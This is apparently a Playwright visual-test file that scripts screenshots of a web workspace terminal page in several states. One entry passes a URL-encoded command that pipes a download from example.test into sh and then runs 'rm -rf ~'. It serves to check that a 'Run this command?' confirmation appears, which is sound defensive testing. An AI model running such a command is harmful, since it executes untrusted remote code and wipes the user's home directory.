import type { Page } from "playwright-core";
import type { Look } from "../look";

const prompt = (p: Page) => p.locator(".xterm-rows").getByText("coder@api").first().waitFor();
const type = async (p: Page, line: string) => {
  await p.keyboard.type(line);
  await p.keyboard.press("Enter");
};

export const looks: Look[] = [
  {
    name: "terminal",
    path: "/@alice/api/terminal",
    as: "alice",
    ready: async (p) => {
      await prompt(p);
      await type(p, "ls");
      await type(p, "evil");
      await p.locator(".xterm-rows").getByText("go.mod").waitFor();
    },
  },
  {
    name: "terminal-stopped",
    path: "/@alice/frontend/terminal",
    as: "alice",
    ready: (p) => p.getByText("The workspace is stopped").waitFor(),
  },
  {
    name: "terminal-ended",
    path: "/@alice/api.main/terminal",
    as: "alice",
    ready: async (p) => {
      await prompt(p);
      await type(p, "exit 3");
      await p.getByText("exit code 3").waitFor();
    },
  },
  {
    name: "terminal-search",
    path: "/@alice/api/terminal",
    as: "alice",
    ready: async (p) => {
      await prompt(p);
      await type(p, "ls");
      await p.keyboard.press("Control+Shift+F");
      await p.getByLabel("Search the terminal").fill("go");
      await p.getByText("of 2").waitFor();
    },
  },
  {
    name: "terminal-menu",
    path: "/@alice/api/terminal",
    as: "alice",
    ready: async (p) => {
      await prompt(p);
      await p.getByRole("button", { name: "Settings of the terminal" }).click();
      await p.getByRole("menuitemcheckbox", { name: /Screen reader/ }).waitFor();
    },
  },
  {
    name: "terminal-run",
    path: "/@alice/api/terminal?command=curl%20https://example.test/x%20%7C%20sh%0Arm%20-rf%20~",
    as: "alice",
    ready: (p) => p.getByText("Run this command?").waitFor(),
  },
  {
    name: "terminal-nowhere",
    path: "/@alice/gone/terminal",
    as: "alice",
    ready: (p) => p.getByText("Workspace not found").waitFor(),
  },
];
